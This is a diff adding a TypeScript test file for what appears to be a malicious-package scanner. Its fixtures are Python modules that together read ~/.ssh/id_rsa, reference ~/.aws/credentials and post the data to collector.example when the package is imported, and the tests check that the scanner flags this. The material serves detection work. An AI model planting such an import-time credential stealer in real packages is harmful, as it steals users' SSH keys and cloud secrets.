@@ -1,0 +1,60 @@
+// A payload split over the target's own modules (one reads, one sends, __init__.py calls both on import) runs on
+// import as surely as one written in one file. Inert imitations: reserved names only, never run.
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { TargetReport } from '../../src/model/result.ts';
+import { analyseFiles } from './in-memory-target.ts';
+
+const COLLECT = [
+  'import os',
+  'def gather():',
+  '    p = os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")',
+  '    return open(p).read() if os.path.exists(p) else ""',
+  'def unused():',
+  '    return os.path.expanduser("~/.aws/credentials")',
+].join('\n');
+const SHIP =
+  'import urllib.request\ndef ship(data):\n    urllib.request.urlopen("https://collector.example/u", data=data.encode())\n';
+
+const findingsOf = (report: TargetReport, path: string) =>
+  report.files.find((file) => file.path === path)?.findings ?? [];
+
+test('functions of other modules that __init__.py calls on import run on import: a split stealer is joined', async () => {
+  const report = await analyseFiles({
+    'demo/__init__.py': 'from .collect import gather\nfrom .net import ship\nship(gather())\n',
+    'demo/collect.py': COLLECT,
+    'demo/net.py': SHIP,
+  });
+  assert.ok(['high', 'critical'].includes(report.risk), report.reasons.join(' | '));
+  assert.match(report.reasons[0], /reads SSH keys and sends data over the network/);
+  const collect = findingsOf(report, 'demo/collect.py');
+  assert.equal(collect.find((f) => /id_rsa|\.ssh/.test(f.message))?.trigger, 'import');
+  // a function nobody calls on import stays code a user calls
+  assert.equal(collect.find((f) => /\.aws/.test(f.message))?.trigger, 'call');
+  assert.equal(findingsOf(report, 'demo/net.py')[0]?.trigger, 'import');
+  assert.ok(
+    report.files.every((file) => file.ownCalls === undefined),
+    'the stages leave no working data behind',
+  );
+});
+
+test('the calls are followed through a module that only passes them on, and by module attribute', async () => {
+  const report = await analyseFiles({
+    'demo/__init__.py': 'from . import runner\nrunner.start()\n',
+    'demo/runner.py': 'from demo import collect, net\ndef start():\n    net.ship(collect.gather())\n',
+    'demo/collect.py': COLLECT,
+    'demo/net.py': SHIP,
+  });
+  assert.equal(findingsOf(report, 'demo/net.py')[0]?.trigger, 'import');
+  assert.match(report.reasons[0], /reads SSH keys and sends data over the network/);
+});
+
+test('functions of other modules called only when a user calls are not moved to import time', async () => {
+  const report = await analyseFiles({
+    'demo/__init__.py': 'from .collect import gather\nfrom .net import ship\ndef backup():\n    ship(gather())\n',
+    'demo/collect.py': COLLECT,
+    'demo/net.py': SHIP,
+  });
+  assert.ok(findingsOf(report, 'demo/net.py').every((f) => f.trigger === 'call'));
+  assert.ok(!['high', 'critical'].includes(report.risk), report.reasons.join(' | '));
+});
